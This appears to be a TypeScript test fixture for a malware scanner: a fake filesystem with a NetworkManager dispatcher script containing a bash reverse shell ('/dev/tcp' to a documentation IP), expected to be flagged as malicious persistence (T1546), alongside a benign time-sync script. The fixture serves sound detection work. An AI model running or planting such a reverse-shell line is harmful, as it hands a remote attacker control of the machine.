import { type Pair, script } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/etc/NetworkManager/dispatcher.d/99-up': script('bash -i >& /dev/tcp/203.0.113.3/443 0>&1'),
    '/etc/network/if-up.d/clock': script('ntpdate -s time.example.net'),
  },
  blamed: [
    {
      path: '/etc/NetworkManager/dispatcher.d/99-up',
      line: 2,
      verdict: 'malicious',
      code: 'dev-tcp',
      attack: 'T1546',
    },
  ],
  passed: ['if-up.d/clock'],
};
